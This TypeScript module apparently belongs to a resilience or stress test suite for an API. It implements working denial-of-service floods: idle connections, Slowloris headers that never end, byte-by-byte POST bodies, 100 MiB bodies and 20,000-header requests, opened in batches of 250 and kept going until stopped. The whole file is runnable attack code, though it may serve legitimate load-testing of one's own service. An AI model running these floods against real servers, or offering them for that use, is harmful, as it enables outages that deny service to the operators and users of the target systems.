import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import type { Target } from './target.js';

/** An attack that runs until it is stopped. */
export interface ConnectionFlood {
  readonly name: string;
  readonly connections: number;
  stop(): void;
}

const batch = 250;

/** Opens connections in batches, so that the queue of the listener refuses none. */
async function open({ apiUrl }: Target, count: number, greet: (socket: Socket) => void): Promise<Socket[]> {
  const { hostname, port } = new URL(apiUrl);
  const sockets: Socket[] = [];
  while (sockets.length < count) {
    const some = Array.from({ length: Math.min(batch, count - sockets.length) }, () => {
      const socket = connect(Number(port), hostname);
      // The server may close it at any time.
      socket.on('error', () => undefined);
      socket.resume();
      return socket;
    });
    await Promise.all(some.map((socket) => once(socket, 'connect')));
    some.forEach(greet);
    sockets.push(...some);
  }
  return sockets;
}

function connectionFlood(name: string, sockets: readonly Socket[], each: (socket: Socket) => void): ConnectionFlood {
  const timer = setInterval(() => sockets.filter(({ writable }) => writable).forEach(each), 500);
  const stop = (): void => {
    clearInterval(timer);
    sockets.forEach((socket) => socket.destroy());
  };
  return { name, connections: sockets.length, stop };
}

const nothing = (): void => undefined;

/** Connections that never send a byte. */
export const idle = async (target: Target, count: number): Promise<ConnectionFlood> =>
  connectionFlood('idle connections', await open(target, count, nothing), nothing);

/** Slowloris: headers that never end. */
export async function slowHeaders(target: Target, count: number): Promise<ConnectionFlood> {
  const sockets = await open(target, count, (socket) => socket.write('GET /openapi.json HTTP/1.1\r\nHost: x\r\n'));
  return connectionFlood('slow headers', sockets, (socket) => socket.write('X-A: b\r\n'));
}

const post = ({ aid, token }: Target, length: number): string =>
  `POST /${aid}/clusters HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${token}\r\n` +
  `Content-Type: application/json\r\nContent-Length: ${length}\r\n\r\n`;

/** Bodies that arrive byte by byte. */
export async function slowBodies(target: Target, count: number): Promise<ConnectionFlood> {
  const sockets = await open(target, count, (socket) => socket.write(post(target, 100_000)));
  return connectionFlood('slow bodies', sockets, (socket) => socket.write(' '));
}

const mib = Buffer.alloc(1024 * 1024, 0x20);

/** Bodies of 100 MiB, as fast as the server reads them. */
export async function hugeBodies(target: Target, count: number): Promise<ConnectionFlood> {
  const sockets = await open(target, count, (socket) => {
    socket.write(post(target, 100 * mib.length));
    let left = 100;
    const more = (): void => {
      while (left > 0 && socket.writable) {
        left -= 1;
        if (!socket.write(mib)) return;
      }
    };
    socket.on('drain', more);
    more();
  });
  return connectionFlood('bodies of 100 MiB', sockets, nothing);
}

/** Requests with more headers than the server accepts. */
export async function headerFlood(target: Target, count: number): Promise<ConnectionFlood> {
  const flood = Array.from({ length: 20_000 }, (_, n) => `X-${n}: ${n}\r\n`).join('');
  const sockets = await open(target, count, (socket) => socket.write(`GET / HTTP/1.1\r\nHost: x\r\n${flood}`));
  return connectionFlood('header floods', sockets, nothing);
}
